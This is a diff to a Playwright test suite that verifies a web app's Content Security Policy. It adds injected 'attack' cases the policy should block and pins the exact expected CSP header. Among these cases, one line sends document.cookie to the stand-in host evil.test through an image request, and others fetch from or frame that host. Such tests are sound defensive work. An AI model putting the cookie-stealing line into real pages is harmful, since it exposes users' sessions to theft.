@@ -1,5 +1,5 @@
 import { type BrowserContext, expect, test } from "@playwright/test";
-import { expectSaved, note, open, openInstalled, status, widgetNamed, write } from "./page.ts";
+import { expectSaved, note, open, openHistory, openInstalled, status, widgetNamed, write } from "./page.ts";
 
 /** What the policy stopped, as it happens: by directive. */
 const watch = async (context: BrowserContext): Promise<readonly string[]> => {
@@ -33,8 +33,10 @@ test("the strict policy stops nothing that the page does", async ({ context, pag
   await page.getByRole("button", { name: "Done", exact: true }).click();
   await expectSaved(page);
 
-  await page.getByRole("button", { name: "History", exact: true }).click();
+  await openHistory(page);
   await page.getByRole("button", { name: "Version 1", exact: true }).click();
+  await page.getByRole("radio", { name: "Compare with now" }).check();
+  await expect(page.getByRole("region", { name: "Changes" })).toBeVisible();
   await page.getByRole("button", { name: "Back to now" }).click();
   await page.keyboard.press("Escape");
 
@@ -95,17 +97,28 @@ const ATTACKS: Readonly<Record<string, () => void>> = {
   "an inline style": () => {
     document.body.insertAdjacentHTML("beforeend", "<style>body { display: none }</style>");
   },
-  "a frame": () => {
-    document.body.insertAdjacentHTML("beforeend", '<iframe src="https://evil.test"></iframe>');
+  "a frame that is not encrypted": () => {
+    document.body.insertAdjacentHTML("beforeend", '<iframe src="http://evil.test"></iframe>');
+  },
+  "a frame with a page in its address": () => {
+    document.body.insertAdjacentHTML("beforeend", '<iframe src="data:text/html,hello"></iframe>');
   },
   "a plug-in": () => {
     document.body.insertAdjacentHTML("beforeend", '<object data="https://evil.test/x"></object>');
   },
-  "a picture that tells": () => {
-    new Image().src = `https://evil.test/?${document.cookie}`;
+  "a picture that anybody on the way can read": () => {
+    new Image().src = `http://evil.test/?${document.cookie}`;
   },
-  "a call that tells": () => {
-    fetch("https://evil.test").catch(() => undefined);
+  "a picture in its address": () => {
+    new Image().src = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>";
+  },
+  "a call that anybody on the way can read": () => {
+    fetch("http://evil.test").catch(() => undefined);
+  },
+  "a style sheet of another origin": () => {
+    const sheet = document.createElement("link");
+    Object.assign(sheet, { rel: "stylesheet", href: "https://evil.test/x.css" });
+    document.head.append(sheet);
   },
   "a socket to another origin": () => {
     new WebSocket("wss://evil.test");
@@ -153,6 +166,19 @@ test("page, files and service worker come with the policy, wherever the page is 
       "x-content-type-options": "nosniff",
       "x-frame-options": "DENY",
     });
-    expect(headers["content-security-policy"]).not.toMatch(/unsafe|\*|https:/);
+    // Nothing is wider than what pictures, pages and numbers of widgets need; what runs is ours alone.
+    expect(headers["content-security-policy"]?.split("; ").sort(), path).toEqual([
+      "base-uri 'none'",
+      "connect-src 'self' https: http://localhost:* http://127.0.0.1:*",
+      "default-src 'none'",
+      "form-action 'none'",
+      "frame-ancestors 'none'",
+      "frame-src https:",
+      "img-src 'self' https:",
+      "manifest-src 'self'",
+      "script-src 'self'",
+      "style-src 'self'",
+      "worker-src 'self'",
+    ]);
   }
 });
